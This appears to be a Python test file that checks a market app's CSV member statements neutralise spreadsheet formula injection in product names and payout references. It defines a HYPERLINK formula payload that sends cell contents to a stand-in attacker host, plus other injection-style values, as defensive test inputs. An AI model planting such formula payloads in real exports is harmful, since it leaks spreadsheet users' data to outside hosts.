"""A member's statement as CSV holds no live spreadsheet formula: product names and payout references that start
one come out neutralised, amounts stay numbers (core.csvsafe)."""

import csv
import html
import io
import re

from tests.factories import login
from tests.market import API, contribute, create_product, sold
from tests.revenue.settlement_world import statement

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'


def rows_of(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_a_product_name_and_a_payout_reference_that_start_a_formula_come_out_of_the_csv_neutralised(
    app, client, market
):
    m, group = market, market.tani
    product = create_product(client, group, m.lead.headers, name=FORMULA, kind="produce", unit="kg", unit_price=5000)
    variant = product["variants"][0]["id"]
    contribute(client, group, m.lead.headers, variant, m.siti, "4")
    sold(client, m.buyer, m.lead, (variant, "2"))  # Siti is owed Rp10.000
    for reference in (FORMULA, "@SUM(1+1)", "-1+2", "+62 812"):
        response = client.post(
            f"{API}/groups/{group.id}/payouts",
            headers=m.lead.headers,
            json={"member_id": m.siti.id, "amount": 1000, "method": "transfer", "reference": reference},
        )
        assert response.status_code == 201, response.json

    rows = rows_of(statement(client, group, m.treasurer, m.siti.id, format="csv"))

    assert [row["kind"] for row in rows] == ["opening", "sale", "payout", "payout", "payout", "payout", "closing"]
    assert rows[1]["product"] == "'" + FORMULA
    assert sorted(row["product"] for row in rows if row["kind"] == "payout") == sorted(
        ["'" + FORMULA, "'@SUM(1+1)", "'-1+2", "'+62 812"]
    )
    # amounts are numbers, a payout's negative among them, and still add up
    assert [int(row["amount"]) for row in rows] == [0, 10000, -1000, -1000, -1000, -1000, 6000]
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row.values() if cell[:1] != "-")

    # the statement page's download link gives the same, neutralised file
    login(client, m.treasurer.user)
    page = client.get(f"/groups/{group.id}/members/{m.siti.id}/statement")
    assert page.status_code == 200
    [link] = re.findall(r'href="([^"]*format=csv[^"]*)"', page.get_data(as_text=True))
    assert [row["product"] for row in rows_of(client.get(html.unescape(link)))] == [row["product"] for row in rows]
